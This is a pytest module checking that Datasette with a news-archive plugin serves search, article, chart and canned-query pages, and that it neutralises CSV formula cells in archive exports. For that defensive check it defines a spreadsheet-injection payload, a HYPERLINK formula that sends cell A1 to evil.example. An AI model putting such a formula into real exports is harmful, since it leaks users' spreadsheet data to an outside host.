"""Real servers over HTTP: stock `datasette` with the newsarchive package installed serves an
archive (live, or a snapshot immutably) with the plugin's pages and canned queries and leaves
other databases alone; `newsarchive serve` runs the same Datasette with the project's settings.

In-process tests of the plugin are tests/test_publish.py's."""

import base64
import csv
import io
import json
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import httpx
import pytest

from crawler.archive import Archive
from crawler.archive.snapshot import snapshot
from crawler.publish.config import queries
from tests.conftest import ROOT, SEED_URL, fetch, run_cli, running, served

DATASETTE = Path(sys.executable).with_name("datasette")  # the virtualenv's own `datasette` command
COPY_URL = "https://www.maghress.com/fr/lesechos/102"  # the seed article republished: same group
AR_URL = "https://www.maghress.com/hespress/606"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
QUERIES = set(queries())

# Stock Datasette: sys._called_from_test stops Datasette loading any installed plugin (entry
# points), so this prints what Datasette itself gives for each path, without the newsarchive plugin.
STOCK = """
import asyncio, base64, json, sys
sys._called_from_test = True
from datasette.app import Datasette

async def main(paths, files):
    ds = Datasette(files)
    print(json.dumps({p: base64.b64encode((await ds.client.get(p)).content).decode() for p in paths}))

asyncio.run(main(json.loads(sys.argv[1]), sys.argv[2:]))
"""


def stock(files, *paths) -> dict[str, bytes]:
    result = subprocess.run([sys.executable, "-c", STOCK, json.dumps(paths), *map(str, files)],
                            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr[-2000:]
    return {p: base64.b64decode(body) for p, body in json.loads(result.stdout.strip().splitlines()[-1]).items()}


@pytest.fixture(scope="module")
def db(bundled):
    return bundled[0]


@pytest.fixture(scope="module")
def hostile(db, tmp_path_factory):
    """A copy of the bundled archive with a formula headline (written through the storage layer)."""
    path = snapshot(db, tmp_path_factory.mktemp("hostile") / "archive.db")
    with Archive(path) as archive:
        archive.save_headlines([{"text": FORMULA, "key": "formula", "url": None, "seen_at": "2025-09-05T10:00:00Z"}])
    return path


@pytest.fixture(scope="module")
def other(tmp_path_factory):
    """A database that is no archive, with a formula cell."""
    path = tmp_path_factory.mktemp("other") / "notes.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)")
    conn.executemany("INSERT INTO notes (text) VALUES (?)", [(FORMULA,), ("@SUM(A1)",), ("métropole",)])
    conn.commit()
    conn.close()
    return path


def texts(csv_text, column="text"):
    table = list(csv.reader(io.StringIO(csv_text)))
    return [row[table[0].index(column)] for row in table[1:]]


def assert_archive_pages(base, name):
    """What any Datasette serving the archive `name` with the plugin installed answers."""
    search = httpx.get(base + "/-/search", params={"q": "metropole"})
    assert search.status_code == 200
    assert "<mark>métropole</mark>" in search.text
    assert f'href="/-/article?url={SEED_URL.replace(":", "%3A").replace("/", "%2F")}"' in search.text
    article = httpx.get(base + "/-/article", params={"url": SEED_URL})
    assert article.status_code == 200
    assert "<h1>Casablanca Smart City: La métropole sur le bon chemin pour devenir une ville intelligente</h1>" in article.text
    arabic = httpx.get(base + "/-/article", params={"url": AR_URL})
    assert '<article class="na-article" lang="ar" dir="rtl">' in arabic.text
    charts = httpx.get(base + "/-/charts")
    assert charts.status_code == 200 and charts.text.count('<svg class="na-chart"') == 3
    home = httpx.get(base + "/").text
    assert "This archive holds" in home and "Search the archive" in home
    database = httpx.get(f"{base}/{name}.json").json()
    assert {q["name"] for q in database["queries"]} == QUERIES
    page = httpx.get(f"{base}/{name}").text
    assert all(f'href="/{name}/{q}"' in page for q in QUERIES)
    health = httpx.get(f"{base}/{name}/crawl_health.json", params={"_shape": "array"}).json()
    assert [(r["id"], r["outcome"]) for r in health] == [(2, "finished"), (1, "finished")]
    table = httpx.get(f"{base}/{name}/articles.json", params={"_search": "metropole", "_shape": "array"}).json()
    assert sorted(r["url"] for r in table) == [COPY_URL, SEED_URL]
    assert httpx.get(f"{base}/{name}/latest_articles_feed.atom").text.startswith("<?xml")


def test_plain_datasette_serves_the_archive_and_leaves_other_databases_alone(hostile, other, tmp_path):
    """`datasette archive.db notes.db`, no option: the plugin comes from its entry point."""
    with running(DATASETTE, hostile, other, cwd=tmp_path) as base:
        assert_archive_pages(base, "archive")
        plugins = {p["name"]: p for p in httpx.get(base + "/-/plugins.json").json()}
        assert plugins["newsarchive"]["templates"] is True
        settings = httpx.get(base + "/-/settings.json").json()
        assert settings["sql_time_limit_ms"] == 1000  # Datasette's own default: no option given
        archive_csv = httpx.get(base + "/archive/headlines.csv", params={"_sort": "id"}).text
        assert "'" + FORMULA in texts(archive_csv) and FORMULA not in texts(archive_csv)

        meta = httpx.get(base + "/-/metadata.json").json()
        assert set(meta["databases"]) == {"archive"}
        notes = httpx.get(base + "/notes.json").json()
        assert notes["queries"] == [] and not notes.get("description")
        assert [t["name"] for t in notes["tables"]] == ["notes"]
        assert httpx.get(base + "/-/search", params={"q": "metropole", "db": "notes"}).status_code == 404
        served_csv = httpx.get(base + "/notes/notes.csv").content
        streamed = httpx.get(base + "/notes/notes.csv", params={"_stream": "1"}).content
    expected = stock([other], "/notes/notes.csv", "/notes/notes.csv?_stream=1")
    assert served_csv == expected["/notes/notes.csv"]  # byte for byte what Datasette gives without the plugin
    assert streamed == expected["/notes/notes.csv?_stream=1"]
    assert texts(served_csv.decode()) == [FORMULA, "@SUM(A1)", "métropole"]  # not prefixed: not an archive


def test_plain_datasette_on_other_databases_is_stock_datasette(other, tmp_path):
    """With no archive served, the home page is Datasette's own, byte for byte."""
    mine = fetch(other, "/", "/notes.json", "/-/metadata.json")
    assert mine[0].content == stock([other], "/")["/"]
    assert mine[1].json()["queries"] == [] and mine[2].json() == {}


def test_a_snapshot_served_immutably_by_plain_datasette(db, tmp_path):
    """`newsarchive publish` then `datasette -i snapshot.db`: the same pages, nothing else needed."""
    out = tmp_path / "dist" / "public.db"
    result = run_cli("publish", out, "--db", db)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.parent.iterdir()) == ["public.db"]  # one file, nothing beside it
    with running(DATASETTE, "-i", out, cwd=tmp_path) as base:
        assert_archive_pages(base, "public")
        assert [(d["name"], d["is_mutable"]) for d in httpx.get(base + "/-/databases.json").json()] == [("public", False)]


def test_newsarchive_serve_runs_datasette(db):
    with served(db) as base:
        response = httpx.get(f"{base}/archive/articles.json?_search=metropole&_shape=array")
        assert sorted(r["url"] for r in response.json()) == [COPY_URL, SEED_URL]
        assert "newsarchive" in httpx.get(f"{base}/").text


def test_newsarchive_serve_has_the_archive_pages_and_public_defaults(db):
    """The real server (not the test client): stock Datasette with the plugin and the settings."""
    with served(db) as base:
        assert_archive_pages(base, "archive")
        settings = httpx.get(base + "/-/settings.json").json()
        assert (settings["sql_time_limit_ms"], settings["max_returned_rows"], settings["default_allow_sql"]) == (3000, 1000, False)
        assert (settings["facet_time_limit_ms"], settings["default_facet_size"], settings["allow_csv_stream"],
                settings["max_csv_mb"]) == (500, 20, True, 100)
        assert httpx.get(base + "/archive.json", params={"sql": "select 1"}).status_code == 403  # --sql to allow it
        plugins = {p["name"]: p for p in httpx.get(base + "/-/plugins.json").json()}
        assert {"datasette-atom", "newsarchive"} <= set(plugins) and plugins["newsarchive"]["templates"] is True


def test_newsarchive_serve_immutable_without_sql(db, tmp_path):
    """--immutable and --no-sql; nothing written to the temporary folder (no metadata file)."""
    out = snapshot(db, tmp_path / "public.db")
    temp = set(Path(tempfile.gettempdir()).iterdir())
    with running(sys.executable, "-m", "crawler.cli", "serve", "--db", out, "--immutable", "--no-sql", cwd=ROOT) as base:
        assert [(d["name"], d["is_mutable"]) for d in httpx.get(base + "/-/databases.json").json()] == [("public", False)]
        assert httpx.get(base + "/-/settings.json").json()["default_allow_sql"] is False
        assert httpx.get(base + "/public.json", params={"sql": "select 1"}).status_code == 403
        assert httpx.get(base + "/public/latest_headlines.json").status_code == 200
        assert "<mark>métropole</mark>" in httpx.get(base + "/-/search", params={"q": "metropole"}).text
    assert not [p for p in set(Path(tempfile.gettempdir()).iterdir()) - temp if p.name.startswith("newsarchive")]


def test_serve_without_archive_is_a_one_line_error(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "crawler.cli", "serve", "--db", str(tmp_path / "none.db")],
        cwd=ROOT, capture_output=True, text=True, check=False,
    )
    assert result.returncode == 1
    assert result.stderr.strip() == f"Error: no archive at {tmp_path / 'none.db'}: run `newsarchive crawl --db {tmp_path / 'none.db'}` first"
